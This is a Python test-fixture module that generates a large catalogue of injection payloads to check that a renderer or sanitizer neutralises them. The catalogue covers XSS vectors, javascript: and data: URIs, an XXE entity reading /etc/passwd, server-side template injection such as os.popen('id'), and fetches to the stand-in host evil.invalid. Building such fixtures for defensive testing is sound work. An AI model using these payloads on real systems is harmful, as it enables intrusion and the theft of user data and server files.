"""Texts that try to become more than text: markup, scripts, addresses, ends of containers, templates.

Each script that would run calls ``alert`` or fetches from ``evil.invalid``: a test that sees neither saw none run.
"""

from __future__ import annotations

from itertools import chain, product

_RUN = "alert(1)"
_FETCH = "fetch('http://evil.invalid/')"
_IMAGE = "http://evil.invalid/i.png"

_ELEMENTS = (
    *(
        "a",
        "audio",
        "body",
        "button",
        "details",
        "div",
        "embed",
        "form",
        "frameset",
        "iframe",
        "img",
        "input",
        "marquee",
    ),
    *("math", "object", "select", "style", "svg", "table", "template", "textarea", "video", "x"),
)
_HANDLERS = ("onerror", "onload", "onfocus autofocus", "onmouseover", "ontoggle open")

_SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    "<script src=http://evil.invalid/x.js></script>",
    f"<script\x20type=text/javascript>{_RUN}</script>",
    f"<script\x0c>{_RUN}</script>",
    f"<script/x>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<script>{_RUN}",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script>/*<!--*/{_RUN}</script>",
    f"<script>\u2028{_RUN}\u2029</script>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<iframe srcdoc='<script>{_RUN}</script>'>",
    f"<iframe src=javascript:{_RUN}>",
    f"<object data=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>",
    f"<form action=javascript:{_RUN}><button>go</button></form>",
    f"<button formaction=javascript:{_RUN}>go",
    f"<isindex type=image src=1 onerror={_RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<base href=http://evil.invalid/>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    f"<style>body{{background:url({_IMAGE})}}</style>",
    "<style>@import 'http://evil.invalid/x.css';</style>",
    f"<div style='background:url({_IMAGE})'>",
    f"<img src={_IMAGE}>",
    f"<img srcset='{_IMAGE} 1x'>",
    f"<video poster={_IMAGE}>",
    f"<svg><image href={_IMAGE}></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_RUN}>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<math><a xlink:href=javascript:{_RUN}>x</a></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<select><noembed></select><script x='a@b'a>{_RUN}//",
    f"<table><td background=javascript:{_RUN}>",
    f"<input type=image src=x onerror={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<a href=javascript:{_RUN} autofocus onfocus={_RUN}>x</a>",
    f"<template><script>{_RUN}</script></template>",
    f"<xmp></xmp><img src=x onerror={_RUN}>",
    f"<plaintext><img src=x onerror={_RUN}>",
    f'<img src=x onerror="{_FETCH}">',
    f"<img/src=x/onerror={_RUN}>",
    f"<img src=x\nonerror\n=\n{_RUN}>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src='x' onerror='&#x61;lert(1)'>",
    "<img \x00src=x onerror=alert(1)>",
    f"<!--><img src=x onerror={_RUN}>",
    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
    f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
)

# Ends of what a text may be put in, followed by something that runs.
_ENDS = (
    *("</title>", "</textarea>", "</script>", "</style>", "</h1>", "</p>", "</article>", "</body>", "</summary>"),
    *("]]>", "-->", "--!>", '"', "'", "`", '">', "'>", "`>", '"/>', "</entry></feed>", "}", '"}', '"}]}}', "\\", '\\"'),
    *(
        "\r\n\r\n",
        "\u2028",
        "\u2029",
        "\x0b",
        "\x85",
        "\x1b[31m",
        "<!--",
        "<!--<script>",
        "<![CDATA[",
        "<?",
        "&",
        "&#x3c;",
    ),
)

_SCHEMES = (
    *(
        f"javascript:{_RUN}",
        f"JaVaScRiPt:{_RUN}",
        f"java\tscript:{_RUN}",
        f"java\nscript:{_RUN}",
        f"\x01javascript:{_RUN}",
    ),
    *(f" javascript:{_RUN}", f"&#106;avascript:{_RUN}", f"javascript&colon;{_RUN}", f"&#x6A&#x61vascript:{_RUN}"),
    *(f"javascript://losser.example/%0a{_RUN}", f"vbscript:{_RUN}", f"data:text/html,<script>{_RUN}</script>"),
    *("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"DATA:image/svg+xml,<svg onload={_RUN}>"),
    *("file:///etc/passwd", "blob:http://losser.example/x", "about:blank", "//evil.invalid/", "\\\\evil.invalid\\x"),
    *(
        f"http:javascript:{_RUN}",
        f"feed:javascript:{_RUN}",
        f"view-source:javascript:{_RUN}",
        f"jav&#x09;ascript:{_RUN}",
    ),
    *(f"{_RUN}", "", "#", "http://[", 'http://losser.example" onclick="alert(1)', "https://losser.example/'><script>"),
)

TEMPLATES = (
    *(
        "{{7*7}}",
        "{{ 7*'7' }}",
        "{%import os%}",
        "{% import os %}{{ os.popen('id').read() }}",
        "{{config}}",
        "{{self}}",
    ),
    *("{{cycler.__init__.__globals__}}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{%if 1%}49{%endif%}"),
    *("{# not seen #}", "{{ range(10**9) | list }}", "{{ bulletin.sender }}", "{{ text.url }}", "{{ json_ld }}"),
    *("#{7*7}", "${7*7}", "$%7b7*7}", "*{7*7}", "@(7*7)", "<%= 7*7 %>", "<? echo 7*7 ?>", "[[7*7]]", "{7*7}", "~{7*7}"),
    *(
        "%(x)s",
        "%s%s%s%n",
        "%d",
        "{0.__class__}",
        "{0}",
        "{title}",
        "$title",
        "${title}",
        "\\{{7*7\\}}",
        "{{",
        "}}",
        "{%",
        "{{{",
    ),
    *("{% raw %}", "{% endblock %}", "{% extends '/etc/passwd' %}", "{% include 'website/base.html' %}", "{{ loop }}"),
)


def links() -> list[str]:
    """Addresses that nobody may be led to, and some that are none."""
    return list(dict.fromkeys(_SCHEMES))


def texts() -> list[str]:
    """Every payload as a text, each once."""
    handlers = (f"<{element} src=x {handler}={_RUN}>" for element, handler in product(_ELEMENTS, _HANDLERS))
    ends = (f"{end}<img src=x onerror={_RUN}>" for end in _ENDS)
    markdown = chain.from_iterable(
        (f"[x]({scheme})", f"<{scheme}>", f"![x]({scheme})", f"[x][1]\n\n[1]: {scheme}", f"<a href='{scheme}'>x</a>")
        for scheme in _SCHEMES
        if scheme
    )
    return list(dict.fromkeys([*_SCRIPTS, *handlers, *ends, *markdown, *TEMPLATES]))
